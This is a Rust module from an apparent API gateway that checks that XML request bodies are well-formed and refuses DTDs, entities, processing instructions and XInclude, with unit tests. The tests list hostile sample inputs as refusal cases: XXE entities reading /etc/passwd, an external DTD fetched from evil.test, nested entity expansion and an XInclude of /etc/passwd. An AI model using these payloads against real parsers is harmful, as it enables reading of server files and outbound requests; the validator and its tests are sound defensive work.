//! XML bodies: whether they are well-formed and call upon nothing outside themselves (VAL-14).
//!
//! In: bytes of which the contract says that they are XML; undeclared XML is refused before, as is every
//! undeclared media type. Out: nothing, or a refusal. XML 1.0 (fifth edition), read by `quick-xml`, which
//! resolves nothing and fetches nothing; what it forgives is checked here. No document type definition,
//! hence no entities but the five (§4.6); no processing instructions; no XInclude: the application's own
//! parser may be one that obeys (CWE-611, CWE-776). Schemas are not enforced: the contract's `xml` objects
//! describe a mapping, and what is declared as XML is reported when it is loaded.

use portcullis_domain::{Denial, Reason};
use portcullis_message::MediaType;
use quick_xml::Reader;
use quick_xml::escape::unescape;
use quick_xml::events::{BytesDecl, BytesRef, BytesStart, Event};

/// Elements within each other.
const DEPTH: usize = 64;
/// Elements of one document.
const ELEMENTS: usize = 100_000;
/// Attributes of one element; each is compared with all before it.
const ATTRIBUTES: usize = 64;
/// Bytes of one name.
const NAME: usize = 256;

/// Namespaces whose elements ask for other documents (XInclude 1.0 §3.1, and a draft of it).
const INCLUDES: [&str; 2] = ["http://www.w3.org/2001/XInclude", "http://www.w3.org/2003/XInclude"];

/// Whether a body is XML, by type or by suffix (RFC 7303 §4.2).
pub(super) fn is_xml(media_type: &MediaType<'_>) -> bool {
    is_xml_essence(media_type.essence())
}

/// The same for the type alone.
pub(super) fn is_xml_essence(essence: &str) -> bool {
    matches!(essence, "application/xml" | "text/xml") || essence.ends_with("+xml")
}

/// Checks one document.
///
/// # Errors
/// [`Reason::BodyMalformed`].
pub(super) fn check(body: &[u8]) -> Result<(), Denial> {
    document(body).map_err(|why| Denial::new(Reason::BodyMalformed).with_note(why))
}

fn document(body: &[u8]) -> Result<(), &'static str> {
    let text = std::str::from_utf8(body).map_err(|_| "the document is not UTF-8")?;
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    if !text.chars().all(is_character) {
        return Err("the document has a character that XML does not have");
    }
    let mut reader = Reader::from_str(text);
    reader.config_mut().check_comments = true;
    let mut elements = Elements::default();
    let mut is_first = true;
    loop {
        match reader.read_event().map_err(|_| "the document is not well-formed")? {
            Event::Start(start) => {
                element(&start)?;
                elements.open()?;
            }
            Event::Empty(start) => {
                element(&start)?;
                elements.open()?;
                elements.close();
            }
            Event::End(_) => elements.close(),
            Event::Text(text) => {
                let text = text.into_inner();
                if text.contains("]]>") {
                    return Err("the document has the end of a section without its beginning");
                }
                elements.is_within(text.bytes().all(is_space))?;
            }
            Event::CData(_) => elements.is_within(false)?,
            Event::GeneralRef(reference) => {
                elements.is_within(false)?;
                entity(&reference)?;
            }
            Event::Comment(_) => {}
            Event::Decl(declaration) if is_first => declared(&declaration)?,
            Event::Decl(_) => return Err("the document declares itself twice"),
            Event::PI(_) => return Err("the document has a processing instruction"),
            Event::DocType(_) => return Err("the document has a document type definition"),
            Event::Eof => return elements.are_complete(),
        }
        is_first = false;
    }
}

/// The elements seen so far.
#[derive(Default)]
struct Elements {
    open: usize,
    all: usize,
    roots: usize,
}

impl Elements {
    fn open(&mut self) -> Result<(), &'static str> {
        if self.open == 0 {
            self.roots += 1;
        }
        self.open += 1;
        self.all += 1;
        match () {
            () if self.roots > 1 => Err("the document has two roots"),
            () if self.open > DEPTH => Err("the document is nested too deeply"),
            () if self.all > ELEMENTS => Err("the document has too many elements"),
            () => Ok(()),
        }
    }

    /// That the reader compares the names of both ends is its default.
    const fn close(&mut self) {
        self.open = self.open.saturating_sub(1);
    }

    /// Text stands within the root; only space may stand around it.
    const fn is_within(&self, is_space: bool) -> Result<(), &'static str> {
        if self.open > 0 || is_space { Ok(()) } else { Err("the document has text outside of its root") }
    }

    const fn are_complete(&self) -> Result<(), &'static str> {
        match (self.open, self.roots) {
            (0, 1) => Ok(()),
            _ => Err("the document ends early"),
        }
    }
}

/// XML 1.0 in UTF-8 is all there is: another encoding would be another reading of the same bytes.
fn declared(declaration: &BytesDecl<'_>) -> Result<(), &'static str> {
    if declaration.version().map_err(|_| "the declaration is malformed")? != "1.0" {
        return Err("the document is in another version of XML");
    }
    match declaration.encoding() {
        None => Ok(()),
        Some(Ok(name)) if name.eq_ignore_ascii_case("utf-8") => Ok(()),
        Some(_) => Err("the document is in another encoding"),
    }
}

fn element(start: &BytesStart<'_>) -> Result<(), &'static str> {
    if !is_name(start.name().0) {
        return Err("an element has a malformed name");
    }
    let mut names: Vec<&str> = Vec::new();
    let mut left = start.attributes_raw();
    loop {
        let after_space = left.trim_start_matches(SPACE);
        if after_space.is_empty() {
            return Ok(());
        }
        if after_space.len() == left.len() || names.len() >= ATTRIBUTES {
            return Err("an element has too many attributes, or no space between two");
        }
        let (name, value, rest) = attribute(after_space).ok_or("an attribute is malformed")?;
        if names.contains(&name) {
            return Err("an attribute is repeated");
        }
        names.push(name);
        let value = unescape(value).map_err(|_| "an attribute has an unknown entity")?;
        if !value.chars().all(is_character) {
            return Err("an attribute has a character that XML does not have");
        }
        if (name == "xmlns" || name.starts_with("xmlns:")) && INCLUDES.contains(&value.trim()) {
            return Err("the document includes others");
        }
        left = rest;
    }
}

/// `name="value"`, and what is left.
fn attribute(text: &str) -> Option<(&str, &str, &str)> {
    let (name, rest) = text.split_once('=')?;
    let name = name.trim_end_matches(SPACE);
    let rest = rest.trim_start_matches(SPACE);
    let quote = rest.chars().next().filter(|quote| matches!(quote, '"' | '\''))?;
    let (value, left) = rest.get(1..)?.split_once(quote)?;
    (is_name(name) && !value.contains('<')).then_some((name, value, left))
}

fn entity(reference: &BytesRef<'_>) -> Result<(), &'static str> {
    match reference.resolve_char_ref() {
        Ok(Some(character)) if is_character(character) => Ok(()),
        Ok(None) if matches!(&**reference, "amp" | "lt" | "gt" | "apos" | "quot") => Ok(()),
        Ok(_) | Err(_) => Err("the document has an unknown entity"),
    }
}

const SPACE: [char; 4] = [' ', '\t', '\r', '\n'];

const fn is_space(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\r' | b'\n')
}

/// XML 1.0 §2.2.
const fn is_character(character: char) -> bool {
    matches!(character, '\t' | '\n' | '\r' | ' '..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
}

/// XML 1.0 §2.3.
fn is_name(name: &str) -> bool {
    let is_start = |character: char| {
        matches!(
            character,
            ':' | '_' | 'A'..='Z' | 'a'..='z' | '\u{C0}'..='\u{D6}' | '\u{D8}'..='\u{F6}'
                | '\u{F8}'..='\u{2FF}' | '\u{370}'..='\u{37D}' | '\u{37F}'..='\u{1FFF}'
                | '\u{200C}'..='\u{200D}' | '\u{2070}'..='\u{218F}' | '\u{2C00}'..='\u{2FEF}'
                | '\u{3001}'..='\u{D7FF}' | '\u{F900}'..='\u{FDCF}' | '\u{FDF0}'..='\u{FFFD}'
                | '\u{10000}'..='\u{EFFFF}'
        )
    };
    let is_more = |character: char| matches!(character, '-' | '.' | '0'..='9' | '\u{B7}' | '\u{300}'..='\u{36F}' | '\u{203F}'..='\u{2040}');
    name.len() <= NAME
        && name.starts_with(is_start)
        && name.chars().all(|character| is_start(character) || is_more(character))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn well_formed_documents_pass() {
        for good in [
            "<a/>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a b='1' c=\"x &amp; y\">t &lt; &#233; &#x1F600;<b/></a>\n",
            "\u{FEFF}<a><![CDATA[<b>]]></a><!-- end -->",
            "<x:a xmlns:x=\"urn:x\" x:b = \"1\"\n>é</x:a >",
        ] {
            assert_eq!(document(good.as_bytes()), Ok(()), "{good}");
        }
    }

    // proves-part: VAL-14 (what is refused; the gateway's walk shows the answers, and that nothing is fetched)
    #[test]
    fn nothing_outside_the_document_is_called_upon() {
        for bad in [
            "<!DOCTYPE a><a/>",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.test/x.dtd\"> %x;]><a/>",
            "<!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>",
            "<!doctype a><a/>",
            "<a>&x;</a>",
            "<a b=\"&x;\"/>",
            "<?xml-stylesheet href=\"http://evil.test/x.xsl\"?><a/>",
            "<a><?php x?></a>",
            "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></a>",
            "<a xmlns:xi=\"http://www.w3.org/2001/XIncl&#117;de\"/>",
            "<include xmlns='http://www.w3.org/2003/XInclude'/>",
        ] {
            assert!(document(bad.as_bytes()).is_err(), "{bad}");
        }
    }

    #[test]
    fn what_is_not_well_formed_is_refused() {
        for bad in [
            "",
            " ",
            "text",
            "<a>",
            "</a>",
            "<a></b>",
            "<a/><b/>",
            "<a/>text",
            "text<a/>",
            "<a><b></a></b>",
            "<a b=\"1\" b=\"2\"/>",
            "<a b=1/>",
            "<a b/>",
            "<a b=\"1\"c=\"2\"/>",
            "<a b=\"<\"/>",
            "<1a/>",
            "<a/ >",
            "< a/>",
            "<a>]]></a>",
            "<a>&</a>",
            "<a>&#0;</a>",
            "<a b=\"&#1;\"/>",
            "<a>\u{1}</a>",
            "<a><!-- -- --></a>",
            "<a/><![CDATA[x]]>",
            "<a/>&amp;",
            " <?xml version=\"1.0\"?><a/>",
            "<a><?xml version=\"1.0\"?></a>",
            "<?xml version=\"1.1\"?><a/>",
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>",
            "<?xml?><a/>",
            "<a><![CDATA[x]]",
            "<a\u{0}/>",
        ] {
            assert!(document(bad.as_bytes()).is_err(), "{bad:?}");
        }
        assert!(document(b"<a>\xff</a>").is_err());
        let utf_16: Vec<u8> = "\u{FEFF}<a/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert!(document(&utf_16).is_err());
    }

    #[test]
    fn documents_are_bounded() {
        let nested = |depth: usize| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
        assert_eq!(document(nested(DEPTH).as_bytes()), Ok(()));
        assert!(document(nested(DEPTH + 1).as_bytes()).is_err());
        assert!(document(nested(10_000).as_bytes()).is_err());
        let wide = |count: usize| format!("<a>{}</a>", "<b/>".repeat(count));
        assert_eq!(document(wide(ELEMENTS - 1).as_bytes()), Ok(()));
        assert!(document(wide(ELEMENTS).as_bytes()).is_err());
        let attributes = |count: usize| {
            let all: String = (0..count).map(|index| format!(" a{index}=\"\"")).collect();
            format!("<a{all}/>")
        };
        assert_eq!(document(attributes(ATTRIBUTES).as_bytes()), Ok(()));
        assert!(document(attributes(ATTRIBUTES + 1).as_bytes()).is_err());
        assert!(document(format!("<{}/>", "a".repeat(NAME + 1)).as_bytes()).is_err());
    }
}
